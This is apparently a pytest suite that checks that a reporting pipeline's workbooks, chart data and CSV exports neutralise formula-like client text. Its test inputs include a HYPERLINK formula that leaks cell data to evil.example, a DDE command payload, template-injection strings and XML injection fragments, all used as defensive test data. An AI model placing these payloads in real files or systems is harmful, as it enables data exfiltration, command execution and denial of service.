"""Text starting with =, +, -, @, tab or CR never becomes a formula: in the findings workbook, in the
workbooks behind the deck's native charts, and in findings.csv, rejects.csv and decisions_template.csv
(a leading apostrophe; numbers stay numbers)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from pipeline.render.deck import render_deck
from pipeline.render.workbook import render_workbook
from pipeline.runner.csvout import FINDINGS_COLUMNS, REJECTS_COLUMNS, findings_csv, to_csv
from tests.hostile.conftest import (E2E_HOSTNAMES, FORMULA_LIKE, FORMULA_PRODUCTS, FORMULA_STARTS, QBR, QUARTER,
                                    REJECTED_VALUES, TEXT_CLIENT, UNKNOWN_CLIENT, client_entries, client_file,
                                    embedded_workbooks, formula_cells, read_csv, review_with, xlsx_cells, xlsx_column,
                                    xlsx_value)

# FORMULA_LIKE, each with the leading apostrophe that keeps it text.
FORMULA_LIKE_AS_TEXT = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+SUM(1,2)", "'-2+3", "'@SUM(A1:A2)",
                        "'\tTAB=1+1", "'\rCR=1+1", "'=cmd|' /C calc'!A0"]
# E2E_HOSTNAMES as they must come out of a spreadsheet cell: formula-like ones behind an apostrophe.
E2E_HOSTNAMES_AS_TEXT = ["'=HYPERLINK(\"http://evil/\",\"click\")", "'+SUM(1,2)", "'-2+3", "'@SUM(A1:A2)",
                         "'=cmd|' /C calc'!A0", "{{ config }}", "{% for x in range(10**9) %}loop{% endfor %}",
                         "{{ ''|attr('__class__') }}", "{_{ config }_}", "<b>Tom & Jerry's \"shop\"</b>",
                         "A &amp; B &lt;c&gt;", "</w:t></w:r><w:r><w:t>injected", "]]> <![CDATA[x"]


def _risky(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_the_literal_expectations_match_their_inputs():
    """The lists above pair up with the hostile inputs (a guard against editing one and not the other)."""
    assert len(FORMULA_LIKE_AS_TEXT) == len(FORMULA_LIKE) and len(E2E_HOSTNAMES_AS_TEXT) == len(E2E_HOSTNAMES)
    assert [t.lstrip("'") for t in FORMULA_LIKE_AS_TEXT] == FORMULA_LIKE


# ----------------------------------------------------------------------------- the findings workbook
# (sheet, header) of every column of client text the workbook shows
TEXT_COLUMNS = (("Findings", "Title"), ("Findings", "Subject"), ("Findings", "Recommendation"),
                ("Findings", "Source rows"), ("Devices", "Hostname"), ("Devices", "Model"), ("Users", "Name"),
                ("Users", "User principal name"), ("Licenses", "Product"), ("Subscriptions", "Product"),
                ("Agreements", "Agreement"), ("Risks", "Risk"), ("Risks", "Cost of inaction"), ("Roadmap", "Initiative"),
                ("Roadmap", "Owner"), ("Initiatives", "Covers"), ("Initiatives", "What we found"),
                ("Budget", "Category"), ("Decisions needed", "Decision needed"), ("Decision record", "Recommendation"))


@pytest.mark.slow
def test_findings_workbook_stores_formula_like_text_as_text():
    data = render_workbook(review_with(FORMULA_LIKE, name="=Client"))
    assert formula_cells(data) == []
    texts = [c for c in xlsx_cells(data) if isinstance(c.value, str)]
    for cell in texts:
        assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} {cell.value!r}"
        assert not _risky(xlsx_value(cell)), f"{cell.parent.title}!{cell.coordinate} {cell.value!r} is unprotected"
    expected = FORMULA_LIKE_AS_TEXT
    for sheet, header in TEXT_COLUMNS:
        found = [xlsx_value(c) for c in xlsx_column(data, sheet, header)]
        if sheet in ("Initiatives", "Budget"):  # every initiative covers the same items; totals under the budget
            found = found[:len(expected)]
        assert found == expected, (sheet, header)
    assert xlsx_cells(data, "Summary")[0].value == "'=Client: findings workbook, 2026-Q4"


def test_numbers_stay_numbers_in_the_workbook():
    from dataclasses import replace

    review = review_with(FORMULA_LIKE)
    first = review.findings[0]
    cost = replace(first.finding, estimated_cost=-1584.5, cost_kind="one_time")
    review = replace(review, findings=(replace(first, finding=cost, budgeted=-1584.5), *review.findings[1:]),
                     current_state=replace(review.current_state, licences=tuple(
                         replace(r, assigned=-1) for r in review.current_state.licences)))
    data = render_workbook(review)
    costs = xlsx_column(data, "Findings", "One-time cost")
    assert costs[0].data_type == "n" and costs[0].value == -1584.5
    assigned = xlsx_column(data, "Licenses", "Assigned")
    assert all(c.data_type == "n" and c.value == -1 for c in assigned)


def test_control_character_before_a_formula_does_not_hide_it():
    data = render_workbook(review_with(["\x00=1+1", "\ud800@SUM(A1)"]))
    titles = [xlsx_value(c) for c in xlsx_column(data, "Findings", "Title")]
    assert titles[:2] == ["'=1+1", "'@SUM(A1)"]


# ----------------------------------------------------------------------------- workbooks behind the charts
def chart_review(base):
    """The synthetic review with formula-like text in every label a deck chart plots: support, age and warranty
    categories, budget categories, grade areas and the quarters of the grade trend."""
    from dataclasses import replace

    from pipeline.review.model import Counted

    counted = tuple(Counted(label, n + 1) for n, label in enumerate(FORMULA_LIKE))
    state = replace(base.current_state, support_status=counted, age_buckets=counted, warranty_status=counted)
    line = base.budget.lines[0]
    budget = replace(base.budget, lines=tuple(replace(line, category=label) for label in FORMULA_LIKE))
    scorecard = tuple(replace(grade, label=label) for grade, label in zip(base.scorecard, FORMULA_LIKE))
    trend = ({"quarter": "=2026-Q3", **{g.area: 50 for g in scorecard}},
             {"quarter": "+2026-Q4", **{g.area: 60 for g in scorecard}})
    changes = replace(base.changes, first_review=False, previous_quarter="2026-Q3", trend=trend)
    return replace(base, current_state=state, budget=budget, scorecard=scorecard, changes=changes)


def test_chart_workbooks_in_the_deck_hold_no_formula(base_review):
    deck = render_deck(chart_review(base_review), QBR)
    books = embedded_workbooks(deck)
    assert len(books) >= 5, "current state (3), budget and grade trend charts"
    strings = set()
    for name, data in books.items():
        assert formula_cells(data) == [], name
        for cell in xlsx_cells(data):
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (name, cell.coordinate, cell.value)
                strings.add(xlsx_value(cell))
    for label in FORMULA_LIKE:  # stored as the literal text (no prefix needed: it is a string cell)
        assert label in strings, label
    assert {"=2026-Q3", "+2026-Q4"} <= strings


def test_chart_series_and_categories_in_the_chart_xml_are_literal(base_review):
    import zipfile

    deck = render_deck(chart_review(base_review), QBR)
    with zipfile.ZipFile(io.BytesIO(deck)) as archive:
        charts = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("ppt/charts/chart")]
    xml = "".join(charts)
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in xml or \
        '=HYPERLINK("http://evil.example/?"&amp;A1,"click")' in xml
    # python-pptx's own formula references (Sheet1!$A$2) are the only <c:f> content
    for ref in re.findall(r"<c:f>(.*?)</c:f>", xml):
        assert re.fullmatch(r"Sheet1!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", ref), ref


# ----------------------------------------------------------------------------- CSV outputs
def _raw_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text, expected", [*zip(FORMULA_LIKE, FORMULA_LIKE_AS_TEXT),
                                            ("\t", "'\t"), ("\r", "'\r"), ("=", "'="), ("-", "'-"),
                                            ("\x00=1+1", "'=1+1"), ("\x1b@x", "'@x")])
def test_csv_text_cells_get_a_leading_apostrophe(text, expected):
    rows = _raw_rows(to_csv(REJECTS_COLUMNS, [{"file": text, "line": 3, "column": text, "value": text,
                                              "reason": text}]))
    assert rows[1] == [expected, "3", expected, expected, expected]


@pytest.mark.parametrize("number, text", [(-5, "-5"), (-1584.5, "-1584.5"), (1200.0, "1200.0"), (0, "0"),
                                          (2.345, "2.35")])
def test_csv_numbers_stay_numbers(number, text):
    from dataclasses import replace

    review = review_with(["-5"], name="=Client")
    finding = review.findings[0]
    review = replace(review, findings=(replace(finding, finding=replace(finding.finding, estimated_cost=number),
                                               budgeted=number),))
    rows = _raw_rows(findings_csv(review))
    row = dict(zip(rows[0], rows[1]))
    assert row["estimated_cost"] == text, "a number is written as a number, without an apostrophe"
    assert row["title"] == "'-5", "the same characters as text are neutralised"
    assert row["client"] == "'=Client"


def test_findings_csv_of_the_run_neutralises_hostile_subjects_and_titles(hostile_run):
    entry = client_entries(hostile_run.manifest)[TEXT_CLIENT]
    path = client_file(hostile_run.out, entry, "findings")
    rows = read_csv(path)
    assert list(rows[0]) == list(FINDINGS_COLUMNS)
    subjects = {r["subject"] for r in rows}
    for host in E2E_HOSTNAMES_AS_TEXT:
        assert host in subjects, host
    for product in FORMULA_PRODUCTS:
        assert "'" + product in subjects
        assert any(r["title"].startswith("'" + product) for r in rows), product
    for row in rows:
        for column, value in row.items():
            assert not _risky(value) or column == "estimated_cost", (column, value)
        assert re.fullmatch(r"-?\d+(\.\d+)?", row["estimated_cost"]) or row["estimated_cost"] == "", row


def test_findings_csv_neutralises_a_client_name(hostile_run):
    entry = client_entries(hostile_run.manifest)["@Home Networks"]
    rows = read_csv(client_file(hostile_run.out, entry, "findings"))
    assert rows and all(r["client"] == "'@Home Networks" for r in rows)
    decisions = read_csv(client_file(hostile_run.out, entry, "decisions_template"))
    assert decisions and all(r["client"] == "'@Home Networks" for r in decisions)


def test_decisions_template_neutralises_hostile_notes(hostile_run):
    entry = client_entries(hostile_run.manifest)[TEXT_CLIENT]
    rows = read_csv(client_file(hostile_run.out, entry, "decisions_template"))
    notes = [r["note"] for r in rows]
    for product in FORMULA_PRODUCTS:  # named in the note of the initiative that covers it, as literal text
        assert any(product in n for n in notes), product
    for row in rows:
        assert not any(_risky(v) for v in row.values()), row


def test_rejects_csv_neutralises_rejected_values(hostile_run):
    rows = read_csv(hostile_run.out / QUARTER / "rejects.csv")
    values = {r["value"] for r in rows}
    for value in REJECTED_VALUES:
        assert "'" + value in values, value
    assert "'" + UNKNOWN_CLIENT in values
    for row in rows:
        assert not any(_risky(v) for v in row.values()), row
        assert row["line"].isdigit()


def test_workbooks_and_chart_workbooks_of_the_run_hold_no_formula(hostile_run):
    entries = client_entries(hostile_run.manifest)
    for entry in entries.values():
        workbook = client_file(hostile_run.out, entry, "workbook").read_bytes()
        assert formula_cells(workbook) == [], entry["name"]
        deck = client_file(hostile_run.out, entry, "qbr").read_bytes()
        for name, data in embedded_workbooks(deck).items():
            assert formula_cells(data) == [], (entry["name"], name)
    for name in ("portfolio.xlsx", "portfolio.pptx"):
        data = (hostile_run.out / QUARTER / name).read_bytes()
        books = embedded_workbooks(data) if name.endswith(".pptx") else {name: data}
        for book, blob in books.items():
            assert formula_cells(blob) == [], book
    hosts = [xlsx_value(c) for c in xlsx_column(client_file(hostile_run.out, entries[TEXT_CLIENT], "workbook")
                                                .read_bytes(), "Devices", "Hostname")]
    for host in E2E_HOSTNAMES_AS_TEXT:
        assert host in hosts, host
